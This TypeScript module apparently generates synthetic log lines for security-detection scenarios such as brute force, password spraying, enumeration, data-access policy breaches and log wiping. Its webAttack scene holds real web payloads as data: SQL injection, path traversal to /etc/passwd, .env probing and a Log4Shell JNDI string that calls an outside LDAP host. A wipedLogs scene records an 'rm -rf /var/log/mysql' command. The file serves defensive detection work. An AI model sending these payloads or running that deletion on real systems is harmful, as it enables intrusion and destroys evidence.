import { busCall, type Call, signIn } from './access-lines';
import { acceptedLogin, authLine, failedLogin } from './auth-lines';
import { askedHalf } from './bus-lines';
import type { Dice } from './dice';
import type { Line } from './line';
import { CONSUMERS, STAFF } from './people';
import { combinedLine } from './web-lines';

/** Something that should be noticed. Lasts a few minutes from `at`. */
export type Scene = (dice: Dice, at: number) => Line[];

const SECOND = 1000;

function times(
  count: number,
  everyMs: number,
  line: (index: number) => Omit<Line, 'at'> & { after?: number },
): (at: number) => Line[] {
  return (at) => Array.from({ length: count }, (_, index) => ({ at: at + index * everyMs, ...line(index) }));
}

function call(dice: Dice, at: number, account: string, what: Call): Line {
  const person = CONSUMERS.find((candidate) => candidate.account === account) ?? CONSUMERS[0];
  return { sourceId: 'lgsp-gateway', at, text: busCall(dice, at, person, what) };
}

export const SCENES = {
  sshBruteForce: (dice, at) => [
    ...times(24, 9 * SECOND, (index) => ({
      sourceId: 'ttdl-linux',
      text: failedLogin(
        at + index * 9 * SECOND,
        'ttdl-app-01',
        index % 3 === 0 ? 'root' : 'admin',
        '198.51.100.66',
        41_000 + index,
      ),
    }))(at),
    {
      sourceId: 'ttdl-linux',
      at: at + 230 * SECOND,
      text: acceptedLogin(
        at + 230 * SECOND,
        'ttdl-app-01',
        'pham.dung',
        '198.51.100.66',
        41_100 + dice.below(50),
      ),
    },
  ],
  webAttack: (dice, at) =>
    [
      '/tra-cuu-ho-so?ma=1%27%20or%20%271%27=%271',
      '/tai-ve?file=../../../../etc/passwd',
      '/.env',
      '/.git/config',
      '/api/ho-so?id=5+union+select+1,2,3',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker's look-up expression, not ours
      '/?q=${jndi:ldap://198.51.100.9/x}',
    ].map((target, index) => ({
      sourceId: 'motcua-web',
      at: at + index * 4 * SECOND,
      text: combinedLine(at + index * 4 * SECOND, {
        address: '198.51.100.9',
        target,
        status: dice.pick([403, 404, 400]),
        bytes: 320,
        agent: 'sqlmap/1.8#stable (https://sqlmap.example)',
      }),
    })),
  passwordSpray: (_dice, at) =>
    STAFF.map((user, index) => ({
      sourceId: 'sso-login',
      at: at + index * 40 * SECOND,
      text: signIn(at + index * 40 * SECOND, user, '198.51.100.23', 'failure'),
    })),
  contentEnumeration: (dice, at) =>
    times(130, 1500, (index) => ({
      sourceId: 'opendata-web',
      text: combinedLine(at + index * 1500, {
        address: '198.51.100.99',
        target: `/backup/${dice.below(99999)}.zip`,
        status: 404,
        bytes: 162,
        agent: 'gobuster/3.6',
      }),
    }))(at),
  noPurpose: (dice, at) =>
    [0, 1, 2].map((index) =>
      call(dice, at + index * 30 * SECOND, 'cb.suoida', { rows: 3, purpose: undefined }),
    ),
  expiredAgreement: (dice, at) =>
    [0, 1].map((index) =>
      call(dice, at + index * 60 * SECOND, 'svc-dulieumo', {
        rows: 40,
        dataset: 'dat-dai',
        agreement: 'TT-2025-017',
      }),
    ),
  unknownAgreement: (dice, at) => [call(dice, at, 'cb.suoida', { rows: 5, agreement: 'TT-2019-404' })],
  bulkExtract: (dice, at) =>
    [0, 1, 2].map((index) =>
      call(dice, at + index * 50 * SECOND, 'tran.binh', {
        rows: 7200 + dice.below(900),
        operation: 'export',
      }),
    ),
  offHours: (dice, at) =>
    Array.from({ length: 9 }, (_, index) => call(dice, at + index * 70 * SECOND, 'vo.khanh', { rows: 4 })),
  newAddress: (dice, at) => [call(dice, at, 'bs.quy', { rows: 2, address: '198.51.100.140' })],
  newDataset: (dice, at) => [call(dice, at, 'bs.lan', { rows: 2, dataset: 'dat-dai' })],
  refusedRepeatedly: (dice, at) =>
    Array.from({ length: 18 }, (_, index) =>
      call(dice, at + index * 45 * SECOND, 'cb.suoida', {
        rows: 0,
        dataset: 'ho-tich',
        authorisation: 'denied',
      }),
    ),
  // The warehouse's log lacks what the bus says it answered: somebody took lines out of it, or they never came.
  halfMissing: (dice, at) => [0, 1, 2].map((index) => askedHalf(dice, at + index * 20 * SECOND)),
  aroundTheBus: (dice, at) => [call(dice, at, 'bs.quy', { rows: 30, channel: 'direct' })],
  wipedLogs: (_dice, at) => [
    {
      sourceId: 'ttdl-linux',
      at,
      text: authLine(
        at,
        'ttdl-db-01',
        'sudo',
        'do.minh : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/rm -rf /var/log/mysql',
      ),
    },
  ],
  unreadable: (_dice, at) => [
    { sourceId: 'lgsp-gateway', at, text: '{"time":"2026-11-20T08:15:30+07:00","consumer":{"agency":' },
    {
      sourceId: 'lgsp-gateway',
      at: at + SECOND,
      text: JSON.stringify({ time: new Date(at).toISOString(), consumer: { agency: 'so-y-te' } }),
    },
  ],
} satisfies Record<string, Scene>;

export type SceneName = keyof typeof SCENES;
